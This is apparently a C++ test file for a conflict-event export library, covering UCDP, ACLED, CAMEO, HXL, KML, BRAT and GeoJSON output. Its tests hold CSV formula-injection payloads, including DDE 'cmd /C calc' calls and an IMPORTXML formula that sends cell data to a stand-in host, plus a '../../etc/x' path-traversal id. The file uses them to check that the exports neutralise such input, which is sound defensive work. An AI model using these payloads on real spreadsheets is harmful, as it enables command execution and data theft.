#include <doctest/doctest.h>

#include <array>
#include <cstdlib>
#include <fstream>
#include <map>
#include <nlohmann/json.hpp>
#include <set>
#include <sstream>

#include "csv_rows.h"
#include "sample.h"
#include "sample_incident.h"
#include "tocsin/core/error.h"
#include "tocsin/core/utf8.h"
#include "tocsin/export/csv.h"
#include "tocsin/export/incident_writer.h"
#include "tocsin/export/text.h"
#include "tocsin/export/writer.h"
#include "tocsin/export/zip.h"

namespace tocsin::exports {
namespace {

using Json = nlohmann::ordered_json;
using sample::named_row;
using sample::parse_csv;

const std::string kData = std::string(TOCSIN_SOURCE_DIR) + "/data";

std::string written(std::string_view format, const std::vector<CodedReport>& reports) {
  std::ostringstream out;
  const auto writer = make_writer(format, out, {Detail::kPlain, kData});
  writer->begin();
  for (const CodedReport& each : reports) writer->report(each);
  writer->end();
  return out.str();
}

std::string written(std::string_view format, const std::vector<Incident>& incidents) {
  std::ostringstream out;
  const auto text = [](std::string_view id) -> std::string_view {
    static const std::string kFirst = sample::report().report.text;
    static const std::string kSecond = sample::second_report().report.text;
    return id == "izra" ? kFirst : kSecond;
  };
  const auto writer = make_incident_writer(format, out, {kData, text, sample::citation_of});
  writer->begin();
  for (const Incident& each : incidents) writer->incident(each);
  writer->end();
  return out.str();
}

// The stored entries of a ZIP by their names, read from its local headers.
std::map<std::string, std::string> unzipped(const std::string& zip) {
  const auto number = [&](std::size_t at, std::size_t bytes) {
    std::uint32_t value = 0;
    for (std::size_t i = 0; i < bytes; ++i) {
      value |= std::uint32_t{static_cast<unsigned char>(zip.at(at + i))} << (8 * i);
    }
    return value;
  };
  std::map<std::string, std::string> entries;
  for (std::size_t at = 0; number(at, 4) == 0x04034b50;) {
    const std::uint32_t size = number(at + 18, 4);
    const std::uint32_t name = number(at + 26, 2);
    const std::string content = zip.substr(at + 30 + name, size);
    CHECK(number(at + 14, 4) == crc32(content));
    entries[zip.substr(at + 30, name)] = content;
    at += 30 + name + size;
  }
  return entries;
}

// The code points [begin, end) of a text.
std::string characters(const std::string& text, std::size_t begin, std::size_t end) {
  std::string result;
  std::size_t number = 0;
  for (std::size_t at = 0; at < text.size(); ++number) {
    const auto bytes = decode_utf8(text, at).bytes;
    if (number >= begin && number < end) result += text.substr(at, bytes);
    at += bytes;
  }
  return result;
}

TEST_CASE("a deadly clash is a row of the UCDP scheme") {
  const auto rows = parse_csv(written("ucdp", std::vector{sample::report()}));
  REQUIRE(rows.size() == 2);  // the threat took no lives
  CHECK(rows[0].size() == 49);
  auto row = named_row(rows, 1);
  CHECK(row["id"] == "izra/1");
  CHECK(row["type_of_violence"] == "1");
  CHECK(row["side_a"] == "Ridge Front");
  CHECK(row["side_b"] == "Syrian Army");
  CHECK(row["date_prec"] == "1");
  CHECK(row["date_start"] == "2024-03-12");
  CHECK(row["where_prec"] == "1");
  CHECK(row["geom_wkt"] == "POINT (36.246670 32.846670)");
  CHECK(row["priogrid_gid"] == "176833");
  CHECK(row["region"] == "Middle East");
  CHECK(row["low"] == "2");
  CHECK(row["best"] == "2");
  CHECK(row["high"].empty());
  CHECK(row["conflict_new_id"].empty());
}

TEST_CASE("what took no lives, or was only threatened, is no row of the UCDP scheme") {
  CodedReport coded = sample::report();
  coded.events[0].killed.reset();
  CHECK(parse_csv(written("ucdp", std::vector{coded})).size() == 1);
  coded = sample::report();
  coded.events[0].reality = Reality::kThreatened;
  CHECK(parse_csv(written("ucdp", std::vector{coded})).size() == 1);
}

TEST_CASE("an incident's figures are low, best and high of all its reports") {
  auto row = named_row(parse_csv(written("ucdp", std::vector{sample::incident()})), 1);
  CHECK(row["low"] == "2");
  CHECK(row["best"] == "4");
  CHECK(row["high"] == "4");
  CHECK(row["number_of_sources"] == "2");
  CHECK(row["source_office"] == "Valley Post; =Ridge, Monitor");
  auto acled = named_row(parse_csv(written("acled", std::vector{sample::incident()})), 1);
  CHECK(acled["fatalities"] == "4");
  CHECK(acled["sub_event_type"] == "Armed clash");
  CHECK(acled["inter1"] == "2");
}

TEST_CASE("a CAMEO row is one pair of who did it and to whom") {
  CodedReport coded = sample::report();
  Event& event = coded.events[0];
  event.actor.push_back(event.recipient[0]);
  event.recipient.push_back(event.actor[0]);
  const auto rows = parse_csv(written("cameo", std::vector{coded}));
  REQUIRE(rows.size() == 6);  // two by two, and the threat
  for (std::size_t i = 1; i < 5; ++i) {
    CHECK(named_row(rows, i)["event_id"] == "izra/1");
    CHECK(named_row(rows, i)["cameo_code"] == "190");
    CHECK(named_row(rows, i)["cameo_root"] == "19");
  }
  CHECK(named_row(rows, 1)["source_code"] == "SYRREB");
  CHECK(named_row(rows, 5)["target_name"].empty());
}

TEST_CASE("a table of all fields has what was only threatened, and says so") {
  CodedReport coded = sample::report();
  coded.events[0].reality = Reality::kThreatened;
  coded.events[0].location->place->lon = -13.2;
  const auto rows = parse_csv(written("csv", std::vector{coded}));
  REQUIRE(rows.size() == 3);
  auto row = named_row(rows, 1);
  CHECK(row["reality"] == "threatened");
  CHECK(row["longitude"] == "-13.20000");
  CHECK(row["killed_low"] == "2");
  CHECK(row["killed_high"].empty());
  CHECK(row["actor"] == "Ridge Front");
  CHECK(row["score"] == "-9.0");
  CHECK(characters(coded.report.text, std::stoul(row["trigger_start"]),
                   std::stoul(row["trigger_end"])) == row["trigger"]);
}

TEST_CASE("the second row of an HXL file holds a hashtag for every column") {
  const auto csv = parse_csv(written("csv", std::vector{sample::report()}));
  const auto hxl = parse_csv(written("hxl", std::vector{sample::report()}));
  REQUIRE(hxl.size() == csv.size() + 1);
  CHECK(hxl[0] == csv[0]);
  CHECK(hxl[2] == csv[1]);
  for (const std::string& tag : hxl[1]) {
    CAPTURE(tag);
    CHECK(tag.front() == '#');
    for (std::size_t i = 1; i < tag.size(); ++i) {
      const bool begins = tag[i - 1] == '#' || tag[i - 1] == '+';  // a name or attribute
      const bool is_letter = tag[i] >= 'a' && tag[i] <= 'z';
      const bool is_digit = tag[i] >= '0' && tag[i] <= '9';
      CHECK((begins ? is_letter : is_letter || is_digit || tag[i] == '+'));
    }
    CHECK(tag.back() != '+');
  }
}

TEST_CASE("marks of XML in a report's words stay words in KML") {
  CodedReport coded = sample::report();
  coded.events[0].location->place->name = "A & <B>\x01";
  const std::string kml = written("kml", std::vector{coded});
  CHECK(kml.find("A &amp; &lt;B&gt;\xEF\xBF\xBD") != std::string::npos);
  CHECK(kml.find("<coordinates>36.24667,32.84667</coordinates>") != std::string::npos);
  CHECK(kml.find("<begin>2024-03-12</begin><end>2024-03-12</end>") != std::string::npos);
}

TEST_CASE("KML puts nothing on the map whose place is not known") {
  const std::string kml = written("kml", std::vector{sample::arabic_report()});
  CHECK(kml.find("<Placemark>") != std::string::npos);
  CHECK(kml.find("<Point>") == std::string::npos);
}

TEST_CASE("every text bound of a BRAT file holds the words at its offsets") {
  const auto files =
      unzipped(written("brat", std::vector{sample::report(), sample::arabic_report()}));
  REQUIRE(files.size() == 5);
  int bounds = 0;
  for (const std::string name : {"izra", "tal"}) {
    const std::string& text = files.at(name + ".txt");
    std::istringstream lines(files.at(name + ".ann"));
    for (std::string line; std::getline(lines, line);) {
      if (line.front() != 'T') continue;
      std::istringstream fields(line.substr(line.find('\t') + 1));
      std::string type;
      std::size_t begin = 0;
      std::size_t end = 0;
      fields >> type >> begin >> end;
      CHECK(characters(text, begin, end) == line.substr(line.rfind('\t') + 1));
      ++bounds;
    }
  }
  CHECK(bounds >= 8);
  const std::string& ann = files.at("izra.ann");
  CHECK(ann.find("ASSAULT_clash:T2 Actor:T3 Recipient:T4 Place:T1 Time:T5 Killed:T6\n") !=
        std::string::npos);
  CHECK(ann.find("\tReality E1 actual\n") != std::string::npos);
  CHECK(ann.find("\tCause Arg1:E2 Arg2:E1\n") != std::string::npos);
  CHECK(files.at("annotation.conf").find("ASSAULT_clash\tActor*:<ENTITY>") != std::string::npos);
}

TEST_CASE("a stretch over a line's end is fragments in BRAT") {
  CodedReport coded = sample::report();
  std::string& text = coded.report.text;
  text.replace(text.find("of the Ridge"), 3, "of\n");
  const std::string ann = unzipped(written("brat", std::vector{coded})).at("izra.ann");
  CHECK(ann.find("\tg-REB 22 31;32 47\tgunmen of the Ridge Front\n") != std::string::npos);
}

TEST_CASE("names of BRAT files stay in their folder and differ") {
  CodedReport coded = sample::report();
  coded.report.id = "../../etc/x";
  CodedReport other = coded;
  other.report.id = ".._.._etc_x";
  const auto files = unzipped(written("brat", std::vector{coded, other}));
  CHECK(files.size() == 5);
  for (const auto& [name, content] : files) {
    CHECK(name.find('/') == std::string::npos);
    CHECK(name.front() != '.');
  }
}

TEST_CASE("the triggers of an incident's sentences are joined in BRAT") {
  const auto files = unzipped(written("brat", std::vector{sample::incident()}));
  const std::string& ann = files.at("izra_1.ann");
  CHECK(ann.find("*\tSame-incident E1 E2\n") != std::string::npos);
  CHECK(ann.find("\tattacked\n") != std::string::npos);
}

TEST_CASE("an incident is a GeoJSON feature that cites its reports") {
  const Json json = Json::parse(written("geojson", std::vector{sample::incident()}));
  const Json& feature = json.at("features").at(0);
  CHECK(feature.at("geometry").at("coordinates").dump() == "[36.24667,32.84667]");
  CHECK(feature.at("properties").at("killed").at("high") == 4);
  CHECK(feature.at("properties").at("citations").size() == 2);
  CHECK(feature.at("properties").at("citations").at(0).at("source") == "Valley Post");
}

TEST_CASE("an incident line keeps to its contract") {
  const std::string line = written("jsonl", std::vector{sample::incident()});
  const Json json = Json::parse(line);
  for (const char* key : {"id", "type", "mode", "reality", "date", "location", "actors", "killed",
                          "injured", "voices", "voice_groups", "events", "disagreements"}) {
    CAPTURE(key);
    CHECK(json.contains(key));
  }
  CHECK(json.at("voices") == 2);
  CHECK(json.at("injured").is_null());
  CHECK(json.at("actors").at(0).at("side") == "actor");
  const Json& event = json.at("events").at(1);
  CHECK(event.at("report_id") == "izra");
  CHECK(characters(sample::report().report.text, event.at("start"), event.at("end")) == "attacked");
}

TEST_CASE("an incident whose reports are gone is written all the same") {
  std::ostringstream out;
  const auto nothing = [](const IncidentEvent&) { return std::optional<Citation>(); };
  for (const std::string_view format : format_names()) {
    CAPTURE(format);
    const auto writer = make_incident_writer(
        format, out, {kData, [](std::string_view) { return std::string_view(); }, nothing});
    writer->begin();
    writer->incident(sample::incident());
    writer->end();
  }
  CHECK(out.str().find("izra/1") != std::string::npos);
}

TEST_CASE("every format writes incidents as it writes events") {
  for (const std::string_view format : format_names()) {
    CAPTURE(format);
    CHECK(!written(format, std::vector{sample::incident()}).empty());
    CHECK(written(format, std::vector{sample::incident()}) ==
          written(format, std::vector{sample::incident()}));
  }
}

std::vector<std::string> payloads() {
  const std::array kBodies{"cmd|' /C calc'!A0",
                           "HYPERLINK(\"http://x.example\";\"a\")",
                           "1+1",
                           "SUM(1;1)*cmd|' /C calc'!A0",
                           "DDE(\"cmd\";\"/C calc\";\"a\")",
                           "IMPORTXML(CONCAT(\"http://x/\",A1))",
                           "2+5+cmd|' /C calc'!A0",
                           "10+20",
                           "A1",
                           "WEBSERVICE(\"http://x\")"};
  std::vector<std::string> result;
  for (const std::string start : {"=", "+", "-", "@", "\t=", "\r="}) {
    for (const char* body : kBodies) result.push_back(start + body);
  }
  return result;
}

// A report in whose every text field `payload` stands.
CodedReport injected(const std::string& payload) {
  CodedReport coded = sample::report();
  coded.report.title = payload;
  coded.report.url = payload;
  coded.report.source = payload;
  Event& event = coded.events[0];
  event.id = payload;
  PlaceCandidate& place = *event.location->place;
  place.name = place.admin1 = place.admin2 = place.id = payload;
  place.lon = -13.2;
  for (EventActor* each : {&event.actor[0], &event.recipient[0]}) each->value.name = payload;
  coded.report.text = payload + coded.report.text;
  const auto at = static_cast<std::uint32_t>(payload.size());
  event.sentence = {0, event.sentence.end + at};
  event.trigger = {0, at};
  return coded;
}

bool is_number(const std::string& cell) {
  char* end = nullptr;
  std::strtod(cell.c_str(), &end);
  return !cell.empty() && end == cell.c_str() + cell.size();
}

TEST_CASE("no payload in any text column is a formula, and all numbers stay numbers") {
  REQUIRE(payloads().size() == 60);
  for (const std::string format : {"acled", "ucdp", "cameo", "csv", "hxl"}) {
    CAPTURE(format);
    std::set<std::string> guarded;
    for (const std::string& payload : payloads()) {
      const auto rows = parse_csv(written(format, std::vector{injected(payload)}));
      REQUIRE(rows.size() >= 2);
      const std::size_t row = format == "hxl" ? 2 : 1;
      for (std::size_t i = 0; i < rows[row].size(); ++i) {
        const std::string& cell = rows[row][i];
        if (cell.starts_with('\'')) guarded.insert(rows[0][i]);
        const bool is_risky =
            !cell.empty() && std::string_view("=+-@\t\r\n").find(cell[0]) != std::string_view::npos;
        CHECK_MESSAGE((!is_risky || is_number(cell)), format << "." << rows[0][i] << ": " << cell);
      }
      const auto fields = named_row(rows, row);
      CHECK(is_number(fields.at("longitude")));
      CHECK(std::stod(fields.at("longitude")) == doctest::Approx(-13.2));
    }
    CHECK(guarded.size() >= 6);
  }
}

TEST_CASE("a guarded text is read back as it was") {
  for (const std::string text : {"plain", "", "'", "'=1", "''=1", "=1", " =1", "' =1", "'quoted'",
                                 "-13.2", "＝1", "\t=1", "it's"}) {
    CAPTURE(text);
    CHECK(unguard_formula(guard_formula(text)) == text);
  }
}

TEST_CASE("an archive has the bytes of its entries, and the same bytes each time") {
  const auto zip = [] {
    std::ostringstream out;
    ZipWriter writer(out);
    writer.add("a.txt", "first");
    writer.add("folder/b.txt", "");
    writer.end();
    return out.str();
  };
  CHECK(unzipped(zip()) ==
        std::map<std::string, std::string>{{"a.txt", "first"}, {"folder/b.txt", ""}});
  CHECK(zip() == zip());
  CHECK(crc32("123456789") == 0xCBF43926);
}

TEST_CASE("numbers are written without the locale and without a negative zero") {
  CHECK(fixed(-13.2, 4) == "-13.2000");
  CHECK(fixed(-0.00001, 2) == "0.00");
  CHECK(fixed(-1.5, 0) == "-2");
}

// Small files as people get them; TOCSIN_UPDATE_GOLDEN=1 writes them anew.
TEST_CASE("the formats write what the golden files hold") {
  const std::string folder = std::string(TOCSIN_SOURCE_DIR) + "/tests/golden/exports/";
  const std::vector<CodedReport> reports{sample::report(), sample::arabic_report()};
  for (const std::string format : {"acled", "ucdp", "cameo", "geojson", "kml", "hxl", "csv"}) {
    for (const std::string kind : {"events", "incidents"}) {
      const std::string file = folder + kind + "." + format;
      CAPTURE(file);
      const std::string now = kind == "events" ? written(format, reports)
                                               : written(format, std::vector{sample::incident()});
      if (std::getenv("TOCSIN_UPDATE_GOLDEN")) std::ofstream(file, std::ios::binary) << now;
      std::ifstream in(file, std::ios::binary);
      std::ostringstream golden;
      golden << in.rdbuf();
      CHECK(now == golden.str());
    }
  }
}

}  // namespace
}  // namespace tocsin::exports
